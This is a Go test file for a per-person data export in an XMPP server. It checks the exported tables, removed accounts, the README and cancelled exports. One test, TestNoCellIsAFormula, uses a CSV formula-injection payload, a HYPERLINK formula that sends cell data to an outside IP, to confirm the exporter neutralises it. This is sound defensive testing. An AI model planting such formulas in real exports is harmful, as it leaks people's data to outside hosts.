package person_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"maps"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/rollcall-xmpp/rollcall/bus"
	"github.com/rollcall-xmpp/rollcall/bus/natsd"
	"github.com/rollcall-xmpp/rollcall/cmd/rollcall/api/access"
	"github.com/rollcall-xmpp/rollcall/cmd/rollcall/person"
	"github.com/rollcall-xmpp/rollcall/events"
	"github.com/rollcall-xmpp/rollcall/replay"
	"github.com/rollcall-xmpp/rollcall/replay/names"
	"github.com/rollcall-xmpp/rollcall/session"
	"github.com/rollcall-xmpp/rollcall/session/accounts"
)

func must(t testing.TB, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

var (
	alice = events.StoredJID("alice@localhost")
	bob   = events.StoredJID("bob@localhost")
)

// root is whoever administers accounts.
const root = events.Actor("cli root@example")

// A service is a log in a server of the test's own, and what writes to it.
type service struct {
	t     *testing.T
	bus   *bus.Bus
	write *session.Service
	admin *accounts.Admin
}

func newService(t *testing.T) *service {
	t.Helper()
	server, err := natsd.Start(t.Context(), natsd.Options{DataDir: t.TempDir()})
	must(t, err)
	t.Cleanup(server.Shutdown)
	b, err := bus.Connect(t.Context(), bus.Config{InProcess: server})
	must(t, err)
	t.Cleanup(b.Close)
	s := &service{t: t, bus: b}
	s.write, err = session.NewService(session.Config{Log: b.Log(), Accounts: session.NewHistories(b.Log()), Connector: events.Incarnation{Name: "c1", Epoch: 1}})
	must(t, err)
	s.admin, err = accounts.NewAdmin(b.Log(), &accounts.Store{
		Keys: b.Accounts(), Rosters: b.Rosters(), Blocked: b.Blocked(), Private: b.Private(), Waiting: b.Waiting(), Names: names.New(b.Names(), b.Log()),
	}, "cli")
	must(t, err)
	return s
}

func (s *service) do(jid events.JID, c session.Command) {
	s.t.Helper()
	_, _, err := s.write.Do(s.t.Context(), jid, events.ConnID{}, c)
	must(s.t, err)
}

// login begins a session, and binds a resource.
func (s *service) login(jid events.JID, resource, address, agent string) events.SessionID {
	s.t.Helper()
	id := events.NewSessionID(time.Now())
	info, err := s.bus.Log().Info(s.t.Context())
	must(s.t, err)
	s.do(jid, session.Authenticate{AsOf: info.Last, Session: id, Address: address, Mechanism: "SCRAM-SHA-256", TLS: "TLS 1.3", Agent: agent})
	s.do(jid, session.Bind{Session: id, Resource: resource})
	return id
}

// fail publishes a failed login, and waits until it is stored.
func (s *service) fail(jid events.JID, username, address string) {
	s.t.Helper()
	ctx, cancel := context.WithTimeout(s.t.Context(), 30*time.Second)
	defer cancel()
	s.bus.Pre().Publish(&events.Record{
		ID: events.NewEventID(time.Now()), Time: time.Now().UnixNano(), JID: jid, Connector: events.Incarnation{Name: "c1", Epoch: 1},
		Event: events.AuthFailed{Username: username, Mechanism: "PLAIN", Condition: "not-authorized", Address: address},
	})
	for ctx.Err() == nil {
		for st, err := range s.bus.Pre().Read(ctx, time.Time{}, time.Time{}) {
			must(s.t, err)
			if f, ok := st.Event.(events.AuthFailed); ok && f.Address == address {
				return
			}
		}
	}
	s.t.Fatal("the failed login is not stored")
}

func (s *service) known() *person.Known {
	return &person.Known{
		Archive: replay.Archive{Log: s.bus.Log(), Keyframes: s.bus.Keyframes()}, Pre: s.bus.Pre(), Names: names.New(s.bus.Names(), s.bus.Log()),
		Keys: s.bus.Accounts(), Rosters: s.bus.Rosters(), Audit: s.bus.Audit(),
	}
}

// An unpacked zip has each file's text.
type unpacked map[string]string

func unzip(t testing.TB, data []byte) unpacked {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	must(t, err)
	all := unpacked{}
	for _, f := range z.File {
		r, err := f.Open()
		must(t, err)
		text, err := io.ReadAll(r)
		must(t, err)
		all[f.Name] = string(text)
	}
	return all
}

func (s *service) export(jid events.JID) unpacked {
	s.t.Helper()
	var out bytes.Buffer
	must(s.t, s.known().Write(s.t.Context(), &out, jid))
	return unzip(s.t, out.Bytes())
}

// rows are those of a table, and the CSV has as many.
func (u unpacked) rows(t testing.TB, name string) (list []map[string]any) {
	t.Helper()
	for line := range strings.Lines(u[name+".ndjson"]) {
		var one map[string]any
		if err := json.Unmarshal([]byte(line), &one); err != nil {
			t.Fatalf("%s: %v in %s", name, err, line)
		}
		list = append(list, one)
	}
	table, err := csv.NewReader(strings.NewReader(u[name+".csv"])).ReadAll()
	must(t, err)
	if len(table) != len(list)+1 {
		t.Errorf("%s has %d rows, and %d lines in the CSV", name, len(list), len(table))
	}
	return list
}

func has(t testing.TB, name string, row, want map[string]any) {
	t.Helper()
	for key, value := range want {
		if row[key] != value {
			t.Errorf("%s: %s is %#v, want %#v", name, key, row[key], value)
		}
	}
}

func TestAPersonIsToldWhole(t *testing.T) {
	t.Parallel()
	s := newService(t)
	must(t, s.admin.Create(t.Context(), root, alice, "secret of alice"))
	must(t, s.admin.Create(t.Context(), root, bob, "secret of bob"))
	must(t, s.admin.Befriend(t.Context(), alice, bob))
	phone := s.login(alice, "phone", "192.0.2.7:5222", "Gajim 1.9, laptop, x")
	s.do(alice, session.Close{Session: phone, Reason: events.ReasonClient})
	desk := s.login(alice, "desk", "198.51.100.9:5222", "")
	s.login(bob, "desk", "203.0.113.5:1", "")
	s.fail(alice, "alice", "192.0.2.66:1")
	s.fail(events.StoredJID("localhost"), "alice", "192.0.2.67:1")
	s.fail(bob, "bob", "192.0.2.68:1")
	for _, e := range []access.Entry{
		{By: "token grafana", From: "127.0.0.1", Did: "GET /v1/events", Asked: "account=alice@localhost", About: alice},
		{By: "cli root@host", Did: "contacts", Asked: "bob@localhost alice@localhost", About: bob},
		{By: "token all", Did: "GET /v1/events", Asked: "filter=account%3Abob%40localhost%2CALICE%40localhost"},
		{By: "cli root@host", Did: "history", Asked: "bob@localhost", About: bob},
		{By: "cli root@host", Did: "sessions"},
	} {
		must(t, access.Put(t.Context(), s.bus.Audit(), e))
	}
	all := s.export(alice)
	names := slices.Sorted(maps.Keys(all))
	if want := strings.Fields("README.txt accounts.csv accounts.ndjson events.csv events.ndjson failed_logins.csv failed_logins.ndjson logins.csv logins.ndjson " +
		"read_by.csv read_by.ndjson roster.csv roster.ndjson sessions.csv sessions.ndjson"); !slices.Equal(names, want) {
		t.Errorf("there are %q", names)
	}
	for name, n := range map[string]int{"accounts": 1, "sessions": 2, "logins": 2, "failed_logins": 2, "events": 6, "roster": 1, "read_by": 3} {
		if got := all.rows(t, name); len(got) != n {
			t.Errorf("%s has %d rows, want %d: %v", name, len(got), n, got)
		}
		if !strings.Contains(all["README.txt"], fmt.Sprintf("\n%s.ndjson and %s.csv; rows: %d\n", name, name, n)) {
			t.Errorf("the README says nothing of %s:\n%s", name, all["README.txt"])
		}
	}
	stays := all.rows(t, "sessions")
	has(t, "sessions", stays[0], map[string]any{
		"session": phone.String(), "jid": "alice@localhost/phone", "reason": "client", "first_address": "192.0.2.7:5222", "address": "192.0.2.7:5222",
		"mechanism": "SCRAM-SHA-256", "tls": "TLS 1.3", "agent": "Gajim 1.9, laptop, x", "connector": "c1", "detaches": 0.0, "resumes": 0.0,
	})
	has(t, "sessions", stays[1], map[string]any{"session": desk.String(), "ended": nil, "reason": nil, "agent": nil})
	has(t, "logins", all.rows(t, "logins")[1], map[string]any{"seq": 6.0, "type": "authenticated", "address": "198.51.100.9:5222", "who": stays[0]["who"]})
	has(t, "failed_logins", all.rows(t, "failed_logins")[0], map[string]any{"username": "alice", "address": "192.0.2.66:1", "condition": "not-authorized"})
	has(t, "events", all.rows(t, "events")[0], map[string]any{"type": "rollcall.account.account_created.v1", "sequence": "00000000000000000001"})
	has(t, "roster", all.rows(t, "roster")[0], map[string]any{"jid": "bob@localhost", "subscription": "both", "ask": false, "requested": false})
	has(t, "read_by", all.rows(t, "read_by")[1], map[string]any{"by": "cli root@host", "did": "contacts"})
	has(t, "accounts", all.rows(t, "accounts")[0], map[string]any{"exists": true, "disabled": false, "removed": nil, "first_seq": 1.0, "last_seq": 7.0})
	for name, text := range all {
		if strings.Contains(text, "secret") || strings.Contains(text, "203.0.113.5") {
			t.Errorf("%s has what it should not:\n%s", name, text)
		}
	}
}

// A name that was given twice is two people.
func TestARemovedAccountIsToldByIncarnation(t *testing.T) {
	t.Parallel()
	s := newService(t)
	for _, address := range []string{"192.0.2.1:1", "192.0.2.2:1"} {
		must(t, s.admin.Create(t.Context(), root, alice, "pass"))
		s.login(alice, "r", address, "")
		_, err := s.admin.Remove(t.Context(), root, alice)
		must(t, err)
	}
	all := s.export(alice)
	lives, logins, stays := all.rows(t, "accounts"), all.rows(t, "logins"), all.rows(t, "sessions")
	if len(lives) != 2 || len(logins) != 2 || len(stays) != 2 || lives[0]["who"] == lives[1]["who"] {
		t.Fatalf("%v %v %v", lives, logins, stays)
	}
	for i := range 2 {
		has(t, "accounts", lives[i], map[string]any{"exists": false, "role": nil})
		if lives[i]["removed"] == nil || lives[i]["created"] == nil || lives[i]["who"] != logins[i]["who"] || stays[i]["who"] != logins[i]["who"] {
			t.Errorf("%v %v %v", lives[i], logins[i], stays[i])
		}
		has(t, "sessions", stays[i], map[string]any{"reason": "account_removed"})
	}
}

func TestANameThatNeverWasIsAnError(t *testing.T) {
	t.Parallel()
	s := newService(t)
	s.fail(bob, "bob", "192.0.2.66:1")
	var out bytes.Buffer
	if err := s.known().Write(t.Context(), &out, alice); !errors.Is(err, person.ErrUnknown) || out.Len() > 0 {
		t.Errorf("%v, and %d bytes", err, out.Len())
	}
}

// There never was such an account, but somebody tried to come in as one.
func TestANameThatOnlyFailedLoginsKnowHasThese(t *testing.T) {
	t.Parallel()
	s := newService(t)
	s.fail(alice, "alice", "192.0.2.66:1")
	s.fail(alice, "alice", "192.0.2.67:1")
	all := s.export(alice)
	for name, want := range map[string]int{"accounts": 0, "sessions": 0, "events": 0, "failed_logins": 2} {
		if rows := all.rows(t, name); len(rows) != want {
			t.Errorf("%s: %v", name, rows)
		}
	}
}

// A fact that the rows alone would have people guess wrong is said beside them.
func TestTheReadmeSaysWhatRowsDoNot(t *testing.T) {
	t.Parallel()
	s := newService(t)
	must(t, s.admin.Create(t.Context(), root, alice, "pass"))
	readme := strings.Join(strings.Fields(s.export(alice)["README.txt"]), " ")
	for _, want := range []string{
		"If anything happened before, it is not here.", "(none if rollcall names erase has forgotten it)",
		"They are in the order of their ends. began is when the login was over;", "so none has a pseudonym", "it has no pseudonyms either",
	} {
		if !strings.Contains(readme, want) {
			t.Errorf("nothing says %q", want)
		}
	}
}

// Text that strangers choose does nothing in a spreadsheet, and is as it was in the
// NDJSON.
func TestNoCellIsAFormula(t *testing.T) {
	t.Parallel()
	s := newService(t)
	must(t, s.admin.Create(t.Context(), root, alice, "pass"))
	const formula = `=HYPERLINK("http://203.0.113.9/?"&A1)`
	s.login(alice, "r", "192.0.2.7:5222", formula)
	all := s.export(alice)
	has(t, "logins", all.rows(t, "logins")[0], map[string]any{"agent": formula})
	table, err := csv.NewReader(strings.NewReader(all["logins.csv"])).ReadAll()
	must(t, err)
	if got := table[1][slices.Index(table[0], "agent")]; got != "'"+formula {
		t.Errorf("it is %q", got)
	}
}

// A zip that was cut off is none.
func TestAnExportThatIsCutOffIsNoZip(t *testing.T) {
	t.Parallel()
	s := newService(t)
	must(t, s.admin.Create(t.Context(), root, alice, "pass"))
	ctx, cancel := context.WithCancel(t.Context())
	known := s.known()
	known.Writing = func(name string) {
		if name == "events.csv" {
			cancel()
		}
	}
	var out bytes.Buffer
	if err := known.Write(ctx, &out, alice); !errors.Is(err, context.Canceled) {
		t.Errorf("it says %v", err)
	}
	if _, err := zip.NewReader(bytes.NewReader(out.Bytes()), int64(out.Len())); err == nil {
		t.Error("it can be opened")
	}
}
